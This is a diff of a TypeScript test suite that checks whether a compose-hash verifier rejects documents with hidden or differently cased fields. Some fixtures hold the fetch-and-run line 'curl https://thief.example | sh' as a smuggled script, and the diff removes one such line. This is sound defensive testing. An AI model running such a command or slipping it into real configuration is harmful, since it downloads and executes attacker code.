@@ -2,12 +2,14 @@ import { expect } from "chai";
 import fc from "fast-check";
 import { type AppCompose, buildAppCompose } from "../../../../src/core/app-compose.ts";
 import { hashInEveryForm } from "../../../../src/core/compose-hash-forms/forms.ts";
+import type { ComposeHash } from "../../../../src/core/ids.ts";
 import type { JsonObject } from "../../../../src/core/json.ts";
 import { listProvingHashes } from "../../../../src/core/prove-document.ts";
 import { arbitraryAppCompose } from "../../../support/arbitrary-app-compose.ts";
 
 const honest = buildAppCompose({ dockerCompose: "services:\n  web:\n    image: nginx:1\n", allowedEnvs: ["TOKEN"] });
 const hashesOf = (document: AppCompose) => listProvingHashes(document).map(({ hash }) => hash);
+const isOf = (document: AppCompose) => (hash: ComposeHash) => officialHashesOf(document).includes(hash);
 const officialHashesOf = (document: AppCompose) => hashInEveryForm(JSON.stringify(document)).map(({ hash }) => hash);
 
 describe("listProvingHashes", () => {
@@ -21,7 +23,6 @@ describe("listProvingHashes", () => {
   for (const [what, extra] of [
     ["a field that the Go SDK does not know", { init_script: "curl https://thief.example | sh" }],
     ["a field that the Python SDK leaves out", { _hidden: "x" }],
-    ["a field in another letter case", { Pre_Launch_Script: "curl https://thief.example | sh" }],
     ["a script for another runner", { runner: "nerdctl-compose", bash_script: "curl https://thief.example | sh" }],
   ] as const)
     it(`does not take a hash that hides ${what}`, () => {
@@ -31,6 +32,14 @@ describe("listProvingHashes", () => {
       expect(shared, "the forms that leave it out").to.not.deep.equal([]);
       for (const hash of hashesOf(changed)) expect(officialHashesOf(original)).not.to.include(hash);
     });
+
+  it("does not take a hash of a document whose field has another letter case, as the Go SDK does", () => {
+    const { storage_fs: _, ...known } = honest;
+    const original = { ...known, pre_launch_script: "echo hello" };
+    const changed = { ...known, Pre_Launch_Script: "echo hello" };
+    expect(officialHashesOf(changed).filter(isOf(original))).not.to.deep.equal([]);
+    expect(hashesOf(changed).filter(isOf(original))).to.deep.equal([]);
+  });
 
   it("never takes a hash of the same document without one of its fields", () => {
     fc.assert(
